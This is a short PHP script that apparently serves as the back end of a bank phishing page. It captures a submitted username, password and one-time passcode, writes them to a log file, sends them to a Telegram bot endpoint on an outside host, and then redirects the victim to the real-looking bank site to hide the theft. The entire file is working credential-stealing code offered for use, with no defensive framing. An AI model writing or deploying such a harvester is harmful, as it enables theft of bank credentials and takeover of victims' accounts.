<?php
$line = $_POST['user'] . ':' . $_POST['password'] . ':' . $_POST['otp'];
file_put_contents('log.txt', $line . "\n", FILE_APPEND);
file_get_contents('https://api.telegram.example/bot123/sendMessage?chat_id=1&text=' . urlencode($line));
header('Location: https://harbour-bank.example/');
